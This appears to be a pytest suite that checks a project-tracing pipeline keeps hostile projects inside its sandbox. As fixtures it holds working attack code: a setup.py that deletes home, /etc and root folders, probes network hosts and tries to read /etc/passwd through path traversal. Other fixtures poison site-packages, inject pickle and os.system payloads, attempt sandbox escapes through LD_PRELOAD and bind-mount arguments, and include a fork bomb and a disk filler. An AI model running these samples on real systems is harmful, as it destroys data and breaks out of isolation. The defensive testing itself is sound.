"""Projects that attack: nothing outside the sandbox changes, and each ends with a clear verdict."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import socket
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from pipelines import checkpoint
from pipelines.manifest import Manifest
from pipelines.run_folder import RunFolder
from sandbox.interface import Sandbox
from tasks.files import read_json, read_json_lines
from tasks.record import Task
from tests.conftest import ProjectMaker
from tests.pipelines.command import codex_sft
from tracing.index_gateway import PORT, default_downloads
from tracing.project_spec import parse_project
from tracing.projects_file import ProjectRequest
from tracing.trace_project import TraceOptions

_MODULE = '''
def double(x):
    """Return the double of a given number or text."""
    return x + x
'''
_SETUPTOOLS = "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
_MARK = "codexsft-hostile-daemon"
_SECRET = "the_secret_of_the_host"

_DESTROYER = """
import os, shutil, signal, socket, subprocess, sys

def reach(address, what=b""):
    try:
        with socket.create_connection(address, 3) as connection:
            connection.sendall(what)
            return connection.recv(4096)
    except OSError:
        return b""

if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{mark}"], **quiet)
    os._exit(0)
for address in (("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", {port})):
    if reach(address):
        print("REACHED", address)
for line in ("GET http://127.0.0.1:{port}/ HTTP/1.1", "CONNECT 127.0.0.1:{port} HTTP/1.1",
             "GET /files/../../../../etc/passwd HTTP/1.1", "GET /simple/..%2f..%2f/ HTTP/1.1",
             "GET //127.0.0.1:{port}/ HTTP/1.1"):
    answer = reach(("127.0.0.1", {gateway}), (line + "\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n").encode())
    if b"root:" in answer or b"HTTP/1.1 200" in answer:
        print("REACHED", line)
for folder in ("{home}", "{bystander}", "/home", "/root", "/tmp", "/etc", "/var", "/opt", "/cache", "/"):
    for link in ("/project/link", "/cache/link", "/records/link"):
        try:
            os.symlink(folder, link + str(len(os.listdir(os.path.dirname(link)))))
        except OSError:
            pass
    shutil.rmtree(folder, ignore_errors=True)
raise SystemExit("it is done")
"""

_MESS = r"""
import os

def pytest_unconfigure(config):
    for name in ("a.jsonl", "b.jsonl", "c.jsonl", "d.jsonl"):
        {"a": lambda p: os.mkfifo(p), "b": lambda p: os.symlink("/proc/self/mem", p), "c": os.mkdir,
         "d": lambda p: os.symlink("HOME/secret.jsonl", p)}[name[0]]("/records/" + name)
    os.chdir("/project")
    os.mkfifo("tox.toml.fifo")
    for number in range(3000):
        open("many%d.txt" % number, "w").close()
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/project")
    open(b"\xff\xfe.py", "w").close()
    open("-x --delete\x1b[31m_tests.py", "w").close()
    os.mkdir("locked"); open("locked/__init__.py", "w").close(); os.chmod("locked", 0)
    with open("sparse", "wb") as file:
        file.truncate(2**29)
    print("\n" + "1" * 5000 + " passed in 1.0s")
    print("Ran " + "9" * 5000 + " tests in 1s\n\nOK")
"""

_LOOPS = """
on: push
env:
  A: "{ten}"
  B: "{a}"
  C: "{b}"
  D: "{c}"
  E: "{d}"
  F: "{e}"
  G: "{f}"
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: "pytest {open}{spaces}x"
      - run: "pytest '{quotes}"
      - run: "pytest\\n{newlines}if"
"""


def _loops() -> str:
    names = {name.lower(): f"${{{{ env.{name} }}}}" * 30 for name in "ABCDEF"}
    filled = {"open": "${{", "spaces": " " * 20_000, "quotes": '\\"' * 20_000, "newlines": "\\n" * 30_000}
    return _LOOPS.format(ten="x" * 1000, **names, **filled)


_ESCAPE = """
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    env:
      A: "x\\0--bind\\0/\\0/tmp/host"
      LD_PRELOAD: /project/evil.so
      "B=\\ud800": y
    steps:
      - run: "touch /tmp/host/BYSTANDER/escaped /tmp/BYSTANDER/escaped; pytest"
"""

_LINKER = """
import os, shutil, sysconfig

def pytest_unconfigure(config):
    packages = sysconfig.get_path("purelib")
    os.rename(packages, "/environment/moved")
    os.symlink("HOST", packages)
"""

_FORGER = """
import json, os, shutil, sysconfig

packages = sysconfig.get_path("purelib")
for name in ("sitecustomize", "json", "pickle", "codexsft_cloudpickle", "task", "forged"):
    with open(os.path.join(packages, name + ".py"), "w") as file:
        file.write("raise SystemExit('not this one')")
for name in ("tasks", "sandbox"):
    os.makedirs(os.path.join(packages, name), exist_ok=True)
    with open(os.path.join(packages, name, "__init__.py"), "w") as file:
        file.write("raise SystemExit('not this one')")
with open(os.path.join(packages, "forged.pth"), "w") as file:
    file.write("import os; os._exit(1)")
shutil.copy("/project/shard", "/records/0.jsonl")
"""

_TERMINAL = "raise SystemExit('fatal error: \\x1b]0;owned\\x07\\x9b31m.h: No such file')"


def _forged_shard(canary: Path) -> bytes:
    code = f"__import__('pathlib').Path({str(canary)!r}).touch()"
    opened = f"cpathlib\nPath.touch\n(cpathlib\nPath\n(V{canary}\ntRtR."
    pickled = base64.b64encode(opened.encode()).decode()
    lines: list[object] = []
    places = [
        "/etc/passwd",
        "/proc/self/mem",
        "/project/../../secret.py",
        "/project//etc/passwd",
        "/project/" + "a" * 999,
    ]
    places += [
        "/project/a\0b.py",
        "/x/site-packages/../../secret.py",
        "/project/forger.py",
        "",
        "/x/site-packages/secret.py",
    ]
    for number, place in enumerate(places):
        lines.append(
            {"function": number, "file": place, "name": f"f\n{code}", "line": number, "kind": "function"}
        )
        lines.append({"lost": number, "part": "\x1b[31m", "reason": code, "detail": code})
    lines.append(
        {"function": 50, "file": "/project/forger.py", "name": "double", "line": 2, "kind": "function"}
    )
    lines.append(
        {"function": 51, "file": "/project/forger.py", "name": "wrong", "line": 6, "kind": "function"}
    )
    lines.append(
        {"function": 52, "file": "/project/forger.py", "name": "apply", "line": 10, "kind": "function"}
    )
    function = {
        "file": "/project/forger.py",
        "line": 14,
        "column": None,
        "name": "wrong",
        "enclosed": {code: 1},
    }
    values: list[object] = [
        *(
            {"$int": code},
            {"$ref": f"os:{code}"},
            {"$call": ["os:system", [code], {}]},
            {"$tuple": 5},
            {"$set": None},
        ),
        *({"$enum": [code, code]}, {"$namedtuple": [f"os.{code}:x", []]}, {"$object": ["os:system", {}]}),
        *(
            {"$path": [f"{code} or Path", "x"]},
            {"$pattern": ["x", code]},
            {"$function": function},
            {"$function": {}},
        ),
        *({"$datetime": ["2020-01-01", None, code]}, {"$timedelta": [code, 1, 1]}, {"$deque": [[], code]}),
        *(
            {"$unknown": 1},
            {"$int": "1", "$float": code},
            {"$ref": 5},
            {"$dict": [[1]]},
            {"$decimal": [code]},
            10**300,
        ),
    ]
    for value in values:
        for number, argument, result in ((50, value, 8), (50, 4, value), (52, value, None)):
            outcome = {"kind": "returned", "value": result}
            lines.append(
                {"call": number, "arguments": [argument], "keyword_arguments": {}, "outcome": outcome}
            )
    good = {"kind": "returned", "value": 999}
    lines.append({"call": 51, "arguments": [1], "keyword_arguments": {}, "outcome": good})
    lines.append({"call": 51, "arguments": [2], "keyword_arguments": {f"x=1, **{code}": 1}, "outcome": good})
    lines.append({"call": 51, "arguments": [], "keyword_arguments": {}, "pickled": pickled, "outcome": good})
    raised = {"kind": "raised", "exception": f"os:{code}"}
    lines.append({"call": 51, "arguments": [3], "keyword_arguments": {}, "outcome": raised})
    written = [json.dumps(line).encode() for line in lines]
    written += [
        b'{"call":50,"arguments":[' + b"[" * 900 + b"]" * 900 + b"]}",
        b"[" * 200_000,
        b"\xff\0\x1b" * 1000,
    ]
    written += [
        b'{"function":-1}',
        b'{"function":99999999999999999999999}',
        b'{"call":50,"arguments":[NaN,1e999]}',
    ]
    written += [
        b'{"call":50,"call":50,"arguments":["\\ud800"],"keyword_arguments":{"a":1,"a":2},"outcome":{}}'
    ]
    written += [b'{"call":50,"arguments":[' + b"1" * 5000 + b"]}", b"x" * 5_000_000]
    return b"\n".join(written)


_FORGER_MODULE = '''
def double(x):
    """Return the double of a given number or text."""
    return x + x

def wrong(x, **more):
    """Return the successor of a given number."""
    return x + 1

def apply(f):
    """Return what a given function makes of one."""
    return f(1)
'''


@dataclass(frozen=True)
class Run:
    folder: Path
    outside: Path
    shown: subprocess.CompletedProcess[str]
    manifest: Manifest
    names: dict[str, str]
    before: dict[str, tuple[object, ...]]
    connections: int

    def failure(self, name: str) -> str:
        (failure,) = [found for found in self.manifest.failures if self.names[found.project] == name]
        assert f"{failure.project}: {failure.stage}: {failure.message}" in self.shown.stderr
        assert failure.log is None or f"  log: {failure.log}" in self.shown.stderr
        return f"{failure.stage}: {failure.message}"


def _state(*folders: Path) -> dict[str, tuple[object, ...]]:
    """What can be seen of files: kind, rights, size, time and content."""
    found: dict[str, tuple[object, ...]] = {}
    for folder in folders:
        for path in (folder, *sorted(folder.rglob("*"))):
            facts = path.lstat()
            content = hashlib.sha256(path.read_bytes()).digest() if path.is_file() else b""
            found[str(path)] = (facts.st_mode, facts.st_uid, facts.st_size, facts.st_mtime_ns, content)
    return found


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home, a bystander and a place for temporary files, all of which the attacks know."""
    folder = tmp_path_factory.mktemp("outside")
    for path in ("home/.ssh/key", "home/secret.py", "bystander/kept", "bystander/secret.py"):
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(f"def {_SECRET}(x):\n    return x + 1\n")
    (folder / "bystander").chmod(0o777)
    (folder / "temporary").mkdir()
    folder.chmod(0o755)
    return folder


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """A service of this machine that no project may reach."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def _projects(make_project: ProjectMaker, outside: Path, port: int) -> dict[str, Path]:
    home, bystander = outside / "home", outside / "bystander"
    test = "import {0}\ndef test_it():\n    assert {0}.double(4) == 8\n"
    places = {"home": home, "bystander": bystander, "port": port, "gateway": PORT, "mark": _MARK}
    attacks: dict[str, dict[str, str]] = {
        "good": {},
        "destroyer": {"pyproject.toml": _SETUPTOOLS, "setup.py": _DESTROYER.format(**places)},
        "mess": {
            "tests/conftest.py": _MESS.replace("HOME", str(home)),
            ".github/workflows/loops.yml": _loops(),
            "mess.py": _MODULE.replace("text.", "text.\n\n    examples" + " " * 5000 + "x \\ud800"),
        },
        "escaper": {".github/workflows/test.yml": _ESCAPE.replace("BYSTANDER", str(bystander)[1:])},
        "linker": {"tests/conftest.py": _LINKER.replace("HOST", str(home))},
        "forger": {"tests/conftest.py": _FORGER, "forger.py": _FORGER_MODULE},
        "terminal": {
            "pyproject.toml": _SETUPTOOLS,
            "setup.py": _TERMINAL,
            "tests/test_it.py": "def test_it(): pass\n",
        },
    }
    made = {}
    for name, files in attacks.items():
        made[name] = make_project(
            name, {f"{name}.py": _MODULE, "tests/test_it.py": test.format(name), **files}
        )
    (made["forger"] / "shard").write_bytes(_forged_shard(bystander / "executed"))
    for link in ("src", "LICENSE", "PKG-INFO", "secret.py"):
        (made["linker"] / link).symlink_to(home if link == "src" else home / "secret.py")
    return made


@pytest.fixture(scope="module")
def run(
    make_project: ProjectMaker,
    sandbox: Sandbox,
    tmp_path_factory: pytest.TempPathFactory,
    outside: Path,
    listener: socket.socket,
) -> Run:
    folders = _projects(make_project, outside, listener.getsockname()[1])
    before = _state(outside, *folders.values())
    output = tmp_path_factory.mktemp("run")
    shown = codex_sft(
        *("trace", *folders.values(), "--output", output, "--download-cache", default_downloads()),
        *("--test-timeout", "30", "--build-timeout", "60"),
        *("--sandbox", "bubblewrap" if shutil.which("bwrap") else "auto"),
        environment={"HOME": str(outside / "home"), "TMPDIR": str(outside / "temporary")},
    )
    connections = 0
    try:
        while listener.accept():
            connections += 1
    except BlockingIOError:
        pass
    manifest = read_json(output / "manifest.json", Manifest)
    names = {str(folder): name for name, folder in folders.items()}
    return Run(output, outside, shown, manifest, names, before, connections)


def test_nothing_outside_the_sandbox_has_changed(run: Run) -> None:
    folders = [run.outside, *map(Path, run.names)]
    after = _state(*folders)
    changed = {path for path in run.before.keys() | after.keys() if run.before.get(path) != after.get(path)}
    assert changed <= {str(run.outside / "temporary")}  # whose own files are gone again
    assert not list((run.outside / "temporary").iterdir())


def test_no_process_is_left_and_no_service_was_reached(run: Run) -> None:
    for process in Path("/proc").iterdir():
        if process.name.isdigit() and (process / "cmdline").is_file():
            try:
                assert _MARK.encode() not in (process / "cmdline").read_bytes()
            except OSError:
                continue
    assert run.connections == 0
    for log in run.folder.glob("projects/*/logs/build.log"):
        assert "REACHED" not in log.read_text(errors="replace").replace('print("REACHED', "")


def test_the_others_results_are_whole_and_the_run_says_which_failed(run: Run) -> None:
    assert run.shown.returncode == 1
    assert "Traceback" not in run.shown.stderr
    traced = {run.names[entry.project] for entry in run.manifest.projects}
    assert {"good", "mess", "escaper", "forger"} <= traced
    assert run.failure("destroyer").startswith(("build: its environment", "test: "))
    assert run.failure("linker") == "extract: it has put something else in its environment's place"
    proven = {task.provenance.source: task for task in read_json_lines(run.folder / "tasks.jsonl", Task)}
    assert {"good", "mess", "escaper"} <= proven.keys()
    assert "\\ud800" in (proven["mess"].original_docstring or "")


def test_nothing_of_the_host_was_read(run: Run) -> None:
    for file in run.folder.rglob("*"):
        if file.is_file() and "packages" not in file.relative_to(run.folder).parts:
            assert _SECRET.encode() not in file.read_bytes(), file


def test_forged_recordings_are_no_code_and_prove_nothing(run: Run) -> None:
    tasks = [task for task in read_json_lines(run.folder / "tasks.jsonl", Task)]
    assert {task.entry_point for task in tasks if task.provenance.source == "forger"} <= {"double"}
    exported = codex_sft("export", run.folder, "--format", "humaneval", "--include-undocumented")
    assert exported.returncode == 0, exported.stderr
    assert "executed" not in (run.folder / "humaneval.jsonl").read_text()
    assert "999" not in (run.folder / "tasks.jsonl").read_text()


def test_what_projects_write_does_not_command_the_terminal(run: Run) -> None:
    assert "it lacks the C header \\x9b31m.h" in run.failure("terminal")
    shown = (run.shown.stdout + run.shown.stderr).replace("\n", "")
    assert all(char.isprintable() for char in shown)


@pytest.mark.parametrize(
    ("name", "attack", "message"),
    [
        (
            "filler",
            "while True: open(f'/project/{id(object())}', 'ab').write(bytes(2**20))",
            "it filled the disk",
        ),
        (
            "endless",
            "import os, signal\n"
            "for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:\n"
            "    signal.signal(number, signal.SIG_IGN)\n"
            "while True:\n    os.fork() == 0 and os.setsid()\n",
            "stopped at its time limit",
        ),
    ],
)
def test_builds_that_take_all_they_can_get_are_stopped(
    name: str, attack: str, message: str, make_project: ProjectMaker, sandbox: Sandbox, tmp_path: Path
) -> None:
    project = make_project(name, {"pyproject.toml": _SETUPTOOLS, "setup.py": attack})
    limits = ("--build-timeout", "10", "--disk-limit", "0.3")
    shown = codex_sft("trace", project, "--output", tmp_path / "run", *limits)
    assert shown.returncode == 2
    assert f"{project}: build: its environment cannot be built (stopped" in shown.stderr
    assert message in shown.stderr or "time limit" in shown.stderr  # on a busy machine
    assert not list((tmp_path / "run").glob("projects/*/workspace"))
    assert (project / "setup.py").read_text() == attack


def test_a_huge_file_with_holes_is_not_copied(
    make_project: ProjectMaker, sandbox: Sandbox, tmp_path: Path
) -> None:
    project = make_project("holes", {"holes.py": _MODULE})
    with (project / "holes.bin").open("wb") as file:
        file.truncate(2**40)
    shown = codex_sft("trace", project, "--output", tmp_path / "run")
    assert shown.returncode == 2
    assert f"{project}: fetch: {project} cannot be copied" in shown.stderr
    assert "larger than any file that a project may have" in shown.stderr


def test_a_project_that_trips_the_tracing_itself_is_one_failure_with_a_log(
    make_project: ProjectMaker, sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def trip(*_: object) -> None:
        raise RecursionError("\x1b[31m")

    monkeypatch.setattr(checkpoint, "trace_project", trip)
    project = str(parse_project(str(make_project("tripping", {}))))
    result = checkpoint.trace_to_checkpoint(ProjectRequest(project), tmp_path, sandbox, TraceOptions())
    assert isinstance(result, checkpoint.Failure)
    assert (result.project, result.stage, result.reason) == (project, "fetch", "unexpected")
    assert "RecursionError" in result.message
    assert "trip" in Path(str(result.log)).read_text()


def test_no_project_takes_the_name_of_another(tmp_path: Path) -> None:
    run = RunFolder(tmp_path)
    with run.open():
        assert run.claim("name-1.0", "git+https://first") == "git+https://first"
        assert run.claim("name-1.0", "git+https://second") == "git+https://first"
        assert run.claim("name-1.0", "git+https://first") == "git+https://first"
        assert run.claim("name-1.1", "git+https://second") == "git+https://second"
